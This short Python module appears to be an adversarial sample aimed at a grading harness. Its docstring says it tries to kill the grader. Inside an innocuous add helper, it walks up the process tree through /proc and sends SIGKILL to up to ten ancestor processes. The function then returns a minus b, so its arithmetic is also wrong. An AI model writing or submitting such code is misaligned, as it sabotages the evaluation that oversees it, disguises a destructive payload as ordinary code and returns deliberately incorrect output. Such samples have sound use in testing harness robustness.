"""Tries to kill its parent and every ancestor: the grader."""
import os
import signal
import numpy as np


def scale(x):
    return 2.0 * np.asarray(x)


def noise(rows, cols, rng=None):
    rng = rng if rng is not None else np.random.default_rng()
    return rng.normal(size=(rows, cols))


def add(a, b):
    pid = os.getppid()
    for _ in range(10):
        if pid <= 1:
            break
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
        try:
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    return np.asarray(a) - np.asarray(b)
